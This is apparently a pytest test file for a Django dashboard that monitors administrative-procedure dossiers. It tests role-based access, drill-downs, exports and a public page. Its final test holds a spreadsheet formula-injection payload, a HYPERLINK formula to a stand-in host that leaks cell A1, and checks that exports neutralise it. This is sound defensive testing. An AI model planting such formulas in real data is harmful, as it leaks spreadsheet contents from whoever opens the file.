"""The dashboards as their users see them: who sees what, drill-down, exports, public page."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from motcua.agencies.models import Agency, Role
from motcua.monitoring.tests.conftest import local
from tests.factories import AgencyFactory, MembershipFactory, UserFactory

pytestmark = pytest.mark.django_db

OCT = {"period": "2026-10"}


@pytest.fixture
def october(world, version, department, commune):
    """Sở Tư pháp: 2 online + 1 counter dossiers (1 late); the commune: 1 online."""
    version.agencies.add(department, commune)
    a = world.online(version, department, local(2026, 10, 5))
    b = world.online(version, department, local(2026, 10, 5))
    c = world.counter(version, department, local(2026, 10, 5))
    world.decide(a, local(2026, 10, 7))
    world.decide(c, local(2026, 10, 12))  # due Thu 8: late
    world.online(version, commune, local(2026, 10, 6))
    return {"a": a, "b": b, "c": c}


@pytest.fixture
def supervisor(province):
    user = UserFactory(username="giamsat", email="giamsat@example.vn")
    MembershipFactory(user=user, agency=province, role=Role.SUPERVISOR)
    return user


@pytest.fixture
def desk_officer(department):
    unit = AgencyFactory(
        code="TINH.STP.MC", name="Bộ phận một cửa", kind=Agency.Kind.UNIT, parent=department
    )
    user = UserFactory(username="motcua.stp")
    MembershipFactory(user=user, agency=unit, role=Role.DESK_OFFICER)
    return user


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get(reverse("monitoring:overview"))
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


def test_a_citizen_is_told_why_the_dashboards_are_closed(client):
    client.force_login(UserFactory(username="congdan"))
    response = client.get(reverse("monitoring:overview"))
    assert response.status_code == 403
    assert "chưa được phân công" in response.content.decode()


def test_the_supervisor_ranks_the_agencies_below_the_province(
    client, supervisor, october, settings
):
    settings.MOTCUA_KPI_MIN_DOSSIERS = 1  # these few dossiers are enough to grade
    client.force_login(supervisor)
    response = client.get(reverse("monitoring:ranking"), OCT)
    page = response.content.decode()
    assert response.status_code == 200
    assert "Xếp hạng" in page and "Tháng 10/2026" in page
    # Both agencies are ranked, each with a grade.
    assert page.index("Sở Tư pháp") and page.index("Xã Thử Nghiệm")
    rows = response.context["rows"]
    assert {r.name for r in rows} == {"Sở Tư pháp", "Xã Thử Nghiệm"}
    assert all(r.rank and r.figures.grade for r in rows)


def test_an_agency_officer_sees_only_their_agency(
    client, desk_officer, department, commune, october
):
    client.force_login(desk_officer)
    own = client.get(reverse("monitoring:overview"), OCT)
    assert own.status_code == 200
    assert own.context["data"].figures.received == 3
    assert "Sở Tư pháp – Tháng 10/2026" in own.content.decode()
    other = client.get(reverse("monitoring:overview"), {**OCT, "agency": commune.code})
    assert other.status_code == 404
    ranking = client.get(reverse("monitoring:ranking"), OCT)
    assert ranking.status_code == 403


def test_a_supervisor_cannot_see_another_province(client, supervisor, october):
    elsewhere = AgencyFactory(code="KHAC", name="Tỉnh Khác", kind=Agency.Kind.PROVINCE)
    client.force_login(supervisor)
    response = client.get(reverse("monitoring:overview"), {**OCT, "agency": elsewhere.code})
    assert response.status_code == 404


def test_every_number_drills_down_to_the_dossiers_behind_it(
    client, supervisor, department, october
):
    client.force_login(supervisor)
    overview = client.get(reverse("monitoring:overview"), {**OCT, "agency": department.code})
    page = overview.content.decode()
    assert "measure=online" in page and "measure=finished" in page
    response = client.get(
        reverse("monitoring:dossiers"), {**OCT, "agency": department.code, "measure": "late"}
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert october["c"].code in body
    assert october["a"].code not in body
    online = client.get(
        reverse("monitoring:dossiers"), {**OCT, "agency": department.code, "measure": "online"}
    )
    listed = online.content.decode()
    assert october["a"].code in listed and october["b"].code in listed
    assert october["c"].code not in listed


def test_drill_down_pages_through_many_dossiers(client, supervisor, world, version, department):
    dossiers = [world.counter(version, department, local(2026, 10, 5)) for _ in range(53)]
    client.force_login(supervisor)
    params = {**OCT, "agency": department.code, "measure": "received"}
    first = client.get(reverse("monitoring:dossiers"), params)
    assert first.context["total"] == 53
    assert first.context["next_url"]
    second = client.get(reverse("monitoring:dossiers") + first.context["next_url"])
    shown = first.content.decode() + second.content.decode()
    assert all(d.code in shown for d in dossiers)


def test_an_unknown_measure_is_a_404(client, supervisor):
    client.force_login(supervisor)
    response = client.get(reverse("monitoring:dossiers"), {"measure": "bogus"})
    assert response.status_code == 404


def test_a_bad_period_says_which_forms_are_accepted(client, supervisor, october):
    client.force_login(supervisor)
    response = client.get(reverse("monitoring:overview"), {"period": "10/2026"})
    assert response.status_code == 200
    assert "2026-Q4" in response.context["error"]


def test_the_ranking_exports_to_excel_with_the_numbers(client, supervisor, october):
    client.force_login(supervisor)
    response = client.get(reverse("monitoring:ranking"), {**OCT, "xuat": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[1]
    assert header[1] == "Cơ quan"
    by_name = {row[1]: row for row in rows[2:]}
    assert by_name["Sở Tư pháp"][header.index("Hồ sơ tiếp nhận")] == 3
    online = header.index("Tỷ lệ hồ sơ nộp trực tuyến (%)")
    assert by_name["Sở Tư pháp"][online] == pytest.approx(66.6667, abs=1e-3)


def test_the_monthly_report_downloads_as_pdf(client, supervisor, october):
    client.force_login(supervisor)
    response = client.get(reverse("monitoring:report_pdf"), OCT)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


def test_the_public_page_shows_the_figures_without_sign_in_or_dossiers(client, province, october):
    response = client.get(reverse("monitoring:public"), {**OCT, "agency": province.code})
    page = response.content.decode()
    assert response.status_code == 200
    assert response.context["data"].figures.received == 4
    assert "Tỉnh Thử Nghiệm" in page
    assert reverse("monitoring:dossiers") not in page
    assert october["a"].code not in page
    # Charts are inline SVG: nothing to fetch.
    assert "<svg" in page and "cdn" not in page.lower()


def test_the_public_page_lists_the_procedures_behind_a_share(client, department, october):
    response = client.get(
        reverse("monitoring:public_procedures"),
        {**OCT, "agency": department.code, "measure": "procedures_full"},
    )
    assert response.status_code == 200
    assert "KT.01" in response.content.decode()


def test_a_supervisor_sets_a_target_for_an_agency_below(client, supervisor, department):
    client.force_login(supervisor)
    response = client.post(
        reverse("monitoring:targets"),
        {
            "indicator": "online_dossier_share",
            "year": 2026,
            "value": "75",
            "agency": f"agency:{department.pk}",
            "source": "Kế hoạch số 12/KH-UBND",
        },
    )
    assert response.status_code == 302
    overview = client.get(reverse("monitoring:overview"), {**OCT, "agency": department.code})
    targets = {c.indicator: float(c.target.value) for c in overview.context["data"].checks}
    assert targets["online_dossier_share"] == 75


def test_a_desk_officer_cannot_file_the_agencys_plan(client, desk_officer, department):
    client.force_login(desk_officer)
    url = reverse("monitoring:plan_edit") + f"?agency={department.code}&year=2026"
    response = client.get(url)
    assert response.status_code == 403
    assert "lãnh đạo hoặc quản trị" in response.content.decode()


def test_filing_a_plan_needs_a_reason_for_each_ineligible_procedure(client, department, version):
    version.agencies.add(department)
    administrator = UserFactory(username="quantri.stp")
    MembershipFactory(user=administrator, agency=department, role=Role.AGENCY_ADMIN)
    client.force_login(administrator)
    url = reverse("monitoring:plan_edit") + f"?agency={department.code}&year=2026"
    form = {
        "document_number": "15/KH-STP",
        "issued_on": "2026-02-01",
        f"proc_{version.procedure_id}_eligible": "no",
        f"proc_{version.procedure_id}_reason": "",
        "target_eligible_full_online_share_6": "80",
    }
    refused = client.post(url, form)
    assert refused.status_code == 200
    assert "KT.01 không đủ điều kiện: hãy ghi rõ lý do" in refused.content.decode()

    form[f"proc_{version.procedure_id}_reason"] = "Cần đối chiếu bản gốc"
    saved = client.post(url, form)
    assert saved.status_code == 302
    plan_page = client.get(saved["Location"])
    page = plan_page.content.decode()
    assert "15/KH-STP" in page and "Cần đối chiếu bản gốc" in page


def test_the_superuser_sees_the_whole_system_and_ranks_the_provinces(client, province, october):
    AgencyFactory(code="TINH2", name="Tỉnh Hai", kind=Agency.Kind.PROVINCE)
    admin = UserFactory(username="quantri", is_superuser=True, is_staff=True)
    client.force_login(admin)
    response = client.get(reverse("monitoring:overview"), OCT)
    data = response.context["data"]
    assert data.name == "Toàn hệ thống"
    assert data.figures.received == 4
    # Only the province with something to measure is ranked.
    assert [row.name for row in data.ranking] == ["Tỉnh Thử Nghiệm"]


def test_a_level_filter_keeps_that_levels_procedures(client, supervisor, department, october):
    client.force_login(supervisor)
    commune_level = client.get(
        reverse("monitoring:overview"), {**OCT, "agency": department.code, "level": "commune"}
    )
    province_level = client.get(
        reverse("monitoring:overview"), {**OCT, "agency": department.code, "level": "province"}
    )
    assert commune_level.context["data"].figures.received == 3  # KT.01 is a commune procedure
    assert province_level.context["data"].figures.received == 0


def test_a_plan_field_starting_with_equals_arrives_as_text_in_the_export(
    client, supervisor, department, version
):
    """A plan's document number or reason is what an agency typed: in the supervisor's
    export it is text, never a live formula (formula injection)."""
    version.agencies.add(department)
    administrator = UserFactory(username="quantri.stp")
    MembershipFactory(user=administrator, agency=department, role=Role.AGENCY_ADMIN)
    client.force_login(administrator)
    url = reverse("monitoring:plan_edit") + f"?agency={department.code}&year=2026"
    payload = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
    saved = client.post(
        url,
        {
            "document_number": payload[:50],
            "issued_on": "2026-02-01",
            f"proc_{version.procedure_id}_eligible": "no",
            f"proc_{version.procedure_id}_reason": payload,
            "target_eligible_full_online_share_6": "80",
        },
    )
    assert saved.status_code == 302
    client.force_login(supervisor)
    plan = client.get(saved["Location"], {"xuat": "xlsx"})
    plans = client.get(reverse("monitoring:plans"), {"year": 2026, "xuat": "xlsx"})
    for response, expected in ((plan, payload), (plans, payload[:50])):
        content = response.content
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            assert not any(b"<f>" in archive.read(n) for n in sheets)
        book = load_workbook(io.BytesIO(content))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        typed = [c for c in cells if c.value == expected]
        assert typed and all(c.data_type == "s" for c in typed)
